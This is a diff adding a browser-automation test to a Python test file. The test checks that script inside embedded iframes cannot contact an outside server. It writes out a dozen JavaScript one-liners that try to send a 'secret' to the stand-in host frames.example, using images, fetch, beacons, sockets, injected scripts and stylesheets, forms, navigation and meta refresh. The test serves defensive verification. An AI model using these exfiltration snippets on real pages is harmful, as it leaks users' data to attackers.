@@ -44,6 +44,45 @@ def test_embedded_html_has_no_network(embedded):
     assert embedded.elsewhere == set()
 
 
+WAYS_OUT = {
+    "a picture": "new Image().src = 'https://frames.example/?secret'",
+    "a request": "fetch('https://frames.example/?secret', {mode: 'no-cors'}).catch(() => 0)",
+    "a beacon": "navigator.sendBeacon('https://frames.example/?secret')",
+    "a socket": "try { new WebSocket('wss://frames.example/?secret') } catch { }",
+    "a script": "document.head.append(Object.assign(document.createElement('script'), {src: 'https://frames.example/'}))",
+    "a style": "document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href=\"https://frames.example/\">')",
+    "a prefetch": "document.head.insertAdjacentHTML('beforeend', '<link rel=prefetch href=\"https://frames.example/\">')",
+    "a frame": "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"https://frames.example/\"></iframe>')",
+    "a way for the page": "try { top.location = 'https://frames.example/?secret' } catch { }",
+}
+# These end the document that they are tried in.
+ENDS = {
+    "a form": "document.body.insertAdjacentHTML('beforeend', '<form action=\"https://frames.example/\">');"
+    " document.forms[0].submit()",
+    "another address": "location = 'https://frames.example/?secret'",
+    "a refresh": "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0; url=https://frames.example/\">')",
+}
+
+
+def test_no_way_out_of_a_frame_is_open(embedded, browser):
+    """Pictures, sockets, forms, navigation: whatever script in a frame tries, nobody outside is asked. A window it may
+    open, as its links may, when its visitor has clicked.
+    """
+    outside = []
+    browser.on("request", lambda request: outside.append(request) if "frames.example" in request.url else None)
+    frames = [embedded.page.locator("iframe").nth(n).element_handle().content_frame() for n in range(4)]
+    for code in WAYS_OUT.values():
+        frames[0].evaluate(f"() => {{ {code}; return 0 }}")
+    embedded.page.wait_for_timeout(500)
+    assert "/embedded" in embedded.page.url  # the page is where it was
+    for frame, code in zip(frames[1:], ENDS.values(), strict=True):
+        frame.evaluate(f"() => {{ setTimeout(() => {{ {code} }}) }}")
+    embedded.page.wait_for_timeout(1500)
+    left = [request.url for request in outside if request.failure not in ("csp", "net::ERR_BLOCKED_BY_CSP")]
+    assert left == []
+    assert embedded.elsewhere == set()
+
+
 def heights(found) -> list[float]:
     return [found.page.locator("iframe").nth(n).bounding_box()["height"] for n in range(4)]
 
